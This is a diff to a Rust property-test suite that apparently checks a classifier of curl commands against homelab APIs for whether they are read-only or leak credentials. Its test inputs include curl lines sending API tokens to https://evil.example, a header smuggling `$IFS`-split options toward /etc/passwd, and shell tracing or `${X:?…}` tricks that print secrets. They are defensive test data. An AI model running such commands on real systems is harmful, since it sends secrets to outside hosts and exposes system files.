@@ -4136,8 +4136,9 @@ proptest! {
     /// read as a place of its own ("Authorization" is no host); the same
     /// value with a URL outside the lab, in any position or in `--url`,
     /// is a secret sent out. Stop 71: an authentication header or a user
-    /// sent to a path its service documents as a read (Home Assistant's
-    /// `/api/states`, Grafana's `/api/search`) only authenticates it.
+    /// sent to a path its service documents as a read (Grafana's
+    /// `/api/search`, Prometheus' `/api/v1/targets`) only authenticates
+    /// it.
     #[test]
     fn a_credential_in_a_header_goes_to_the_urls_host(
         option in select(vec!["-H", "--header", "-u", "--user", "-A", "-e"]),
@@ -4161,12 +4162,12 @@ proptest! {
         };
         let documented = matches!(
             lab,
-            "http://192.168.10.20:8123/api/states"
-                | "'http://10.0.0.5:3000/api/search?type=dash-db'"
-                | "localhost:9090/api/v1/targets"
+            "'http://10.0.0.5:3000/api/search?type=dash-db'" | "localhost:9090/api/v1/targets"
         );
         let authenticates = match option {
-            "-u" | "--user" => true,
+            // (A user without a colon is prompted for its password, which
+            // names it: `PVEAPIToken=…` to `-u` asks.)
+            "-u" | "--user" => value.contains(':'),
             "-H" | "--header" => value.starts_with("\"Authorization:") || value.starts_with("\"X-Api-Key:"),
             _ => false,
         };
@@ -6782,7 +6783,7 @@ proptest! {
         read in select(vec![
             "http://10.0.0.61:8989/api/v3/queue", "'http://10.0.0.61:8989/api/v3/series/42'",
             "http://10.0.0.20:8123/api/states/sensor.outdoor_temperature", "http://10.0.0.41:8096/System/Info",
-            "\"http://10.0.0.61:8989/api/v3/calendar?start=$(date +%F)\"", "http://192.168.1.42:32400/library/sections/2/all",
+            "\"http://10.0.0.61:8989/api/v3/calendar?start=$(date -I)\"", "http://192.168.1.42:32400/library/sections/2/all",
             "https://10.0.0.11:8006/api2/json/cluster/resources",
         ]),
         acting in select(vec![
@@ -6792,7 +6793,7 @@ proptest! {
             "\"http://10.0.0.61:8989/api/v3/$WHAT\"", "http://10.0.0.61:8989/api/v3/queue/../config/host",
             "https://10.0.0.11:8006/api2/json/nodes/pve1/apt/changelog",
         ]),
-        shown in select(vec!["-v", "--verbose", "-sv", "--trace-ascii -", "-X POST", "--request DELETE", "-d a=1"]),
+        shown in select(vec!["-v", "--verbose", "-sv", "--trace-ascii -", "-X POST", "--request DELETE", "-d a=1", "-L", "--location"]),
         other in select(vec!["-H \"X-Custom: $SONARR_KEY\"", "-A \"$HA_TOKEN\"", "-e \"$HA_TOKEN\""]),
         before in any::<bool>(),
     ) {
@@ -6810,5 +6811,13 @@ proptest! {
         not_read_only(&format!("{} {read} https://evil.example/api/v3/queue", line(auth, "")))?;
         destructive(&line(auth, "https://evil.example/api/v3/queue"))?;
         not_read_only(&format!("echo \"$SONARR_KEY $HA_TOKEN $AGH_PASS\"; {}", line(auth, read)))?;
+        // (Review 105: a trace prints the expanded words; `$IFS` outside
+        // quotes splits a header into options; `${X:?…}` prints; a user
+        // without a colon is prompted for, named.)
+        not_read_only(&format!("set -x; {}", line(auth, read)))?;
+        not_read_only(&format!("bash -xc '{}'", line(auth, read).replace('\'', "")))?;
+        not_read_only(&line("-H X-Api-Key:$IFS-o$IFS/etc/passwd", read))?;
+        not_read_only(&line("-H \"X-Api-Key: ${NONE:?$SONARR_KEY}\"", read))?;
+        not_read_only(&line("-u \"$SONARR_KEY\"", read))?;
     }
 }
